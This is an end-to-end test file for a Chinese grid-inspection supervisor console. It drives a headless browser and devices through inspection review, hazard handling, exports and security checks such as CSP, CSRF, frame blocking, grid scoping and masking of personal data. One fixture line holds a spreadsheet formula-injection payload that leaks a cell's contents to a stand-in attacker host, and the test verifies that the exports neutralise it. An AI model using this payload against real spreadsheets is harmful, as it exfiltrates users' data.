// End to end: a real gridfield-server (embedded SQLite, seeded with the admin CLI),
// headless `gridfield` devices, and the supervisor console in Debian's headless
// Chromium driven by playwright-core. Screenshots go to target/e2e-artifacts/.
import { test, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";
import { chromium } from "playwright-core";
import { ROOT, ARTIFACTS, FIXTURES, CHROMIUM, SERVER_BIN, CLI_BIN, harness } from "./support.mjs";

// Not import.meta.dirname: Debian 12's Node 18 lacks it.
const FAIL_ANSWERS = path.join(ROOT, "core", "tests", "fixtures", "fire_safety_fail.json");
const SITE_PNG = path.join(ROOT, "core", "tests", "fixtures", "site.png");

const GRID_A = "320583001003";
const GRID_B = "320583001004";
const ADDR_A = "320583-001-0012-03-02-0501";
const PASSWORD = "e2e-password-A1";
// Free text a hostile phone may send: a formula a spreadsheet would run.
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';

const { tmp, DB, admin, device, deviceJson, startServer } = harness("console", () => browser);
let browser = null;

/** The server's state, as `admin export` sees it: records by kind and id. */
function serverState() {
  const out = fs.mkdtempSync(path.join(tmp, "export-"));
  admin(["export", "--out", out]);
  const read = (kind) => {
    const f = path.join(out, `${kind}.jsonl`);
    if (!fs.existsSync(f)) return new Map();
    const rows = fs.readFileSync(f, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l));
    return new Map(rows.map((r) => [r.id ?? r.hazard?.id, r]));
  };
  return { inspection: read("inspection"), hazard: read("hazard") };
}

/** Entries of a zip archive (central directory), inflated. Enough for XLSX. */
function unzip(buf) {
  let eocd = buf.length - 22;
  while (eocd >= 0 && buf.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  assert.ok(eocd >= 0, "zip: no end of central directory");
  const count = buf.readUInt16LE(eocd + 10);
  let p = buf.readUInt32LE(eocd + 16);
  const files = new Map();
  for (let i = 0; i < count; i++) {
    assert.equal(buf.readUInt32LE(p), 0x02014b50, "zip: central directory entry");
    const method = buf.readUInt16LE(p + 10);
    const csize = buf.readUInt32LE(p + 20);
    const nlen = buf.readUInt16LE(p + 28);
    const xlen = buf.readUInt16LE(p + 30);
    const clen = buf.readUInt16LE(p + 32);
    const local = buf.readUInt32LE(p + 42);
    const name = buf.toString("utf8", p + 46, p + 46 + nlen);
    const lstart = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const data = buf.subarray(lstart, lstart + csize);
    files.set(name, method === 8 ? zlib.inflateRawSync(data) : data);
    p += 46 + nlen + xlen + clen;
  }
  return files;
}

/** CSV with quoted fields (RFC 4180). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
    } else if (c !== "\r") field += c;
  }
  if (field || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

test("supervisor console end to end", { timeout: 300000 }, async () => {
  fs.mkdirSync(ARTIFACTS, { recursive: true });
  for (const b of [SERVER_BIN, CLI_BIN, CHROMIUM]) assert.ok(fs.existsSync(b), `${b} missing`);

  // A town with grids A and B, their door plates, and people.
  admin(["import-grids", path.join(FIXTURES, "grids.csv")]);
  admin(["import-plates", "--no-progress", path.join(FIXTURES, "addresses.csv")]);
  admin(["console-user", "--name", "赵强", "--role", "supervisor", "--grid", GRID_A], `${PASSWORD}\n`);
  const codeA = admin(["enroll-code", "--user", "张伟", "--role", "worker", "--grid", GRID_A]).trim();
  const codeB = admin(["enroll-code", "--user", "刘洋", "--role", "worker", "--grid", GRID_B]).trim();
  const url = await startServer();

  // Worker A inspects twice (both fail, raising hazards) and reports one hazard fixed.
  const devA = fs.mkdtempSync(path.join(tmp, "devA-"));
  device(devA, ["enroll", "--server", url, "--code", codeA]);
  device(devA, ["sync"]);
  for (let i = 0; i < 2; i++) {
    device(devA, ["inspect", "--template", "rental_fire_safety", "--address", ADDR_A, "--answers", FAIL_ANSWERS]);
  }
  const hazardsA = deviceJson(devA, ["hazard", "list"]);
  const fixed = hazardsA.find((h) => h.category === "fire.ebike_charging");
  const other = hazardsA.find((h) => h.id !== fixed.id);
  device(devA, ["hazard", "move", fixed.id, "assign", "--assignee", "李房东", "--deadline", "2099-12-31"]);
  device(devA, ["hazard", "move", fixed.id, "mark_rectified", "--note", "电动车已移出", "--photo", SITE_PNG]);
  device(devA, ["hazard", "new", "--address", ADDR_A, "--category", "gas.safety", "--description", FORMULA]);
  // A resident with an ID number and a phone (masked in the console until revealed).
  const resident = deviceJson(devA, [
    "entity", "put", "person", "--address", ADDR_A,
    "name=王五", "id_number=320583199006018820", "phone=13900000001",
  ]).id;
  const syncA = deviceJson(devA, ["sync"]);
  assert.equal(syncA.rejected.length, 0, JSON.stringify(syncA));
  const inspectionsA = deviceJson(devA, ["inspections"]);
  assert.equal(inspectionsA.length, 2);

  // Worker B inspects in grid B: a record supervisor A must never open.
  const devB = fs.mkdtempSync(path.join(tmp, "devB-"));
  device(devB, ["enroll", "--server", url, "--code", codeB]);
  device(devB, ["sync"]);
  const addrB = "320583-001-0008-02-01-0302";
  device(devB, ["inspect", "--template", "rental_fire_safety", "--address", addrB, "--answers", FAIL_ANSWERS]);
  // …and a hazard with a photo of its own (bytes no grid A record has).
  const pngB = path.join(tmp, "grid-b.png");
  fs.writeFileSync(pngB, Buffer.concat([fs.readFileSync(SITE_PNG), Buffer.from("grid-b")]));
  device(devB, ["hazard", "new", "--address", addrB, "--category", "fire.escape_blocked",
    "--description", "楼道堆物（B）", "--photo", pngB]);
  device(devB, ["sync"]);
  const inspectionB = deviceJson(devB, ["inspections"])[0];
  const photoB = deviceJson(devB, ["hazard", "list"]).find((h) => h.description === "楼道堆物（B）").photos[0];
  assert.match(photoB, /^[0-9a-f]{64}$/);

  // A fresh profile directory per run (playwright passes it as --user-data-dir).
  browser = await chromium.launchPersistentContext(fs.mkdtempSync(path.join(tmp, "chromium-")), {
    executablePath: CHROMIUM,
    headless: true,
    args: [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
    ],
    acceptDownloads: true,
    viewport: { width: 1280, height: 900 },
  });
  const context = browser;
  // Every CSP violation on the console's pages is reported to the test: the
  // policy allows no inline script, style or handler, so one means a page broke.
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) =>
      console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`));
  });
  const page = await context.newPage();
  const violations = [];
  page.on("console", (m) => {
    if (/CSP violation|Content Security Policy/i.test(m.text())) violations.push(`${page.url()}: ${m.text()}`);
  });
  const shot = (name) => page.screenshot({ path: path.join(ARTIFACTS, `${name}.png`), fullPage: true });

  // Sign in.
  await page.goto(`${url}/console`);
  assert.match(page.url(), /\/console\/login/);
  await page.fill("input[name=user]", "赵强");
  await page.fill("input[name=password]", "wrong password");
  await page.click("button.primary");
  assert.match(await page.textContent(".flash.err"), /用户名或密码错误/);
  await page.fill("input[name=user]", "赵强");
  await page.fill("input[name=password]", PASSWORD);
  await page.click("button.primary");
  await page.waitForURL(`${url}/console`);
  const cookie = (await context.cookies()).find((c) => c.name === "gf_session");
  assert.ok(cookie.httpOnly, "session cookie is HttpOnly");
  assert.equal(cookie.sameSite, "Strict");
  assert.match(await page.textContent("h1"), /概览/);
  assert.ok(await page.locator(".chart svg a").count() > 0, "charts link to lists");
  await shot("dashboard");

  // Review queue: both of worker A's inspections await review; B's is not listed.
  const queue = await page.goto(`${url}/console/inspections`);
  assert.match(queue.headers()["content-security-policy"], /script-src 'self'.*frame-ancestors 'none'/);
  await shot("review-queue");
  // console.js runs under the CSP: j moves the row cursor.
  await page.keyboard.press("j");
  assert.equal(await page.locator("tr.cursor").count(), 1, "console.js runs under the CSP");
  const queued = await page.locator("#batch input[name=id]").evaluateAll((els) => els.map((e) => e.value));
  assert.deepEqual(new Set(queued), new Set(inspectionsA.map((i) => i.id)));
  const [approveId, returnId] = inspectionsA.map((i) => i.id);

  await page.goto(`${url}/console/inspections/${approveId}`);
  assert.ok(await page.locator(".photos img").count() > 0, "photos shown");
  await shot("inspection");
  await page.click("#approve");
  await page.waitForURL(/ok=approved/);

  // Returning without a comment is refused on the page and changes nothing.
  await page.goto(`${url}/console/inspections/${returnId}`);
  await page.click("#return");
  assert.match(await page.textContent(".flash.err"), /退回时必须填写意见/);
  assert.equal(serverState().inspection.get(returnId).review_status, "submitted");
  await page.fill("#comment", "请补拍楼道照片");
  await page.click("#return");
  await page.waitForURL(/ok=returned/);
  const st = serverState().inspection;
  assert.equal(st.get(approveId).review_status, "approved");
  assert.equal(st.get(approveId).reviewed_by, "赵强");
  assert.equal(st.get(returnId).review_status, "returned");

  // The worker's phone sees the decision and the comment after its next sync.
  device(devA, ["sync"]);
  const after = new Map(deviceJson(devA, ["inspections"]).map((i) => [i.id, i]));
  assert.equal(after.get(approveId).review_status, "approved");
  assert.equal(after.get(returnId).review_status, "returned");
  assert.equal(after.get(returnId).review_comment, "请补拍楼道照片");

  // Hazard board: a deadline in the past is refused and changes nothing.
  await page.goto(`${url}/console/hazards`);
  await shot("hazard-board");
  await page.goto(`${url}/console/hazards/${other.id}`);
  const before = JSON.stringify(serverState().hazard.get(other.id));
  await page.selectOption("#assign select[name=assignee]", "张伟");
  await page.fill("#assign input[name=deadline]", "2020-01-01");
  await page.click("#assign button");
  assert.match(await page.textContent(".flash.err"), /整改期限不能早于今天/);
  assert.equal(JSON.stringify(serverState().hazard.get(other.id)), before);

  // A photo over the 10 MB limit is refused with a message; nothing changes.
  await page.goto(`${url}/console/hazards/${fixed.id}`);
  const huge = path.join(tmp, "huge.png");
  const png = fs.readFileSync(SITE_PNG);
  fs.writeFileSync(huge, Buffer.concat([png, Buffer.alloc(11 * 1024 * 1024)]));
  const fixedBefore = JSON.stringify(serverState().hazard.get(fixed.id));
  await page.setInputFiles("#verify input[name=photo]", huge);
  await page.fill("#verify textarea[name=note]", "现场复核合格");
  await page.click("#verify button");
  assert.match(await page.textContent(".flash.err"), /照片超过 10 MB 上限/);
  assert.equal(JSON.stringify(serverState().hazard.get(fixed.id)), fixedBefore);

  // Verified and closed from the board, with a note and a photo.
  await page.setInputFiles("#verify input[name=photo]", SITE_PNG);
  await page.fill("#verify textarea[name=note]", "现场复核合格");
  await page.click("#verify button");
  await page.waitForURL(/ok=step/);
  await shot("hazard-closed");
  const closed = serverState().hazard.get(fixed.id);
  assert.equal(closed.hazard.status, "closed");
  const verify = closed.events.find((e) => e.action === "verify");
  assert.equal(verify.actor, "赵强");
  assert.equal(verify.note, "现场复核合格");
  assert.equal(verify.photos.length, 1);
  device(devA, ["sync"]);
  assert.equal(deviceJson(devA, ["hazard", "show", fixed.id]).hazard.status, "closed");

  // Exports download and parse: CSV and XLSX of the hazards (the board's "all" tab).
  await page.goto(`${url}/console/hazards?status=`);
  const [csvDl] = await Promise.all([page.waitForEvent("download"), page.click("a[href*='hazards.csv']")]);
  const csv = parseCsv(fs.readFileSync(await csvDl.path(), "utf8").replace(/^\uFEFF/, ""));
  assert.equal(csv[0][0], "编号");
  const ids = csv.slice(1).map((r) => r[0]);
  assert.ok(ids.includes(fixed.id) && ids.includes(other.id), `CSV rows: ${ids}`);
  assert.equal(csv.find((r) => r[0] === fixed.id)[3], "已销号");
  const [xlsxDl] = await Promise.all([page.waitForEvent("download"), page.click("a[href*='hazards.xlsx']")]);
  const zip = unzip(fs.readFileSync(await xlsxDl.path()));
  assert.ok(zip.has("[Content_Types].xml") && zip.has("xl/workbook.xml"));
  const sheet = zip.get("xl/worksheets/sheet1.xml").toString("utf8");
  assert.equal((sheet.match(/<row[ >]/g) || []).length, csv.length, "XLSX and CSV have the same rows");
  assert.ok(sheet.includes(fixed.id));
  // A device's formula text: neutralised in the CSV, a plain string cell in the XLSX.
  assert.ok(csv.some((r) => r[5] === `'${FORMULA}`), "CSV formula cell neutralised");
  assert.match(sheet, /<c r="[A-Z]+\d+" t="inlineStr"><is><t xml:space="preserve">=HYPERLINK\(/, "XLSX string cell");
  assert.ok(!sheet.includes("<f>"), "no formula in the XLSX");

  // A supervisor of grid A cannot open grid B's record by editing the URL.
  const resp = await page.goto(`${url}/console/inspections/${inspectionB.id}`);
  assert.equal(resp.status(), 404);
  assert.ok(!(await page.content()).includes(inspectionB.id));
  // Nor grid B's photo by its hash, while grid A's own photos load.
  const photoResp = await page.request.get(`${url}/console/photos/${photoB}`);
  assert.equal(photoResp.status(), 404, "grid B's photo is out of scope");
  const ownPhoto = Object.values(inspectionsA[0].photos).flat()[0];
  const ownResp = await page.request.get(`${url}/console/photos/${ownPhoto}`);
  assert.equal(ownResp.status(), 200);
  assert.match(ownResp.headers()["content-type"], /^image\//);
  const exp = await page.request.get(`${url}/console/export/inspections.csv?status=submitted`);
  assert.ok(!(await exp.text()).includes(inspectionB.id), "exports stay in scope");

  // Door plates and the English switch.
  await page.goto(`${url}/console/addresses?q=${encodeURIComponent("建设路12号")}`);
  assert.ok(await page.locator(`a[href='/console/addresses/${ADDR_A}']`).count() > 0);
  await page.goto(`${url}/console/addresses/${ADDR_A}`);
  let content = await page.content();
  assert.ok(content.includes("3205**********8820") && content.includes("139****0001"), "masked by default");
  assert.ok(!content.includes("320583199006018820"));
  await shot("address");
  // Reveal one value with its button (a plain POST form, no script needed).
  await page.click(`form.reveal:has(input[name='field'][value='id_number']):has(input[name='id'][value='${resident}']) button`);
  content = await page.content();
  assert.ok(content.includes("320583199006018820"), "revealed");
  assert.ok(content.includes("139****0001") && !content.includes("13900000001"), "only that one value");
  await shot("address-revealed");
  await page.goto(`${url}/console/plates?grid=${GRID_A}`);
  assert.ok((await page.locator(".plate[data-plate^='HTTPS://']").count()) > 0);
  assert.equal(await page.locator("button[data-print]").count(), 1, "print button without inline handler");
  await shot("plates");
  await page.goto(`${url}/console/audit?lang=en`);
  assert.match(await page.textContent("h1"), /Audit trail/);
  assert.match(await page.textContent("main"), /赵强 on the console returned the inspection, with the comment: /);
  await shot("audit-en");

  // A POST without the form's CSRF token is refused.
  const forged = await page.request.post(`${url}/console/inspections/${returnId}/review`, {
    form: { decision: "approve", csrf: "forged" },
  });
  assert.equal(forged.status(), 403);
  assert.equal(serverState().inspection.get(returnId).review_status, "returned");

  // No page of the console broke its own CSP.
  assert.deepEqual(violations, []);

  // The console cannot be framed by another page (one-click approve stays unframeable).
  const framer = await context.newPage();
  const framerLog = [];
  framer.on("console", (m) => framerLog.push(m.text()));
  await framer.setContent(`<iframe src="${url}/console/inspections"></iframe>`);
  const frame = await (await framer.waitForSelector("iframe")).contentFrame();
  await frame.waitForLoadState("load").catch(() => {});
  assert.equal(await frame.locator("#batch, input[name=user]").count(), 0, "console not rendered in a frame");
  assert.ok(!frame.url().startsWith(url), `framed page loaded: ${frame.url()}`);
  await framer.close();

  // Sign out ends the session.
  await page.goto(`${url}/console`);
  await page.click("header form button");
  await page.waitForURL(/\/console\/login/);
  await page.goto(`${url}/console/inspections`);
  assert.match(page.url(), /\/console\/login/);
});
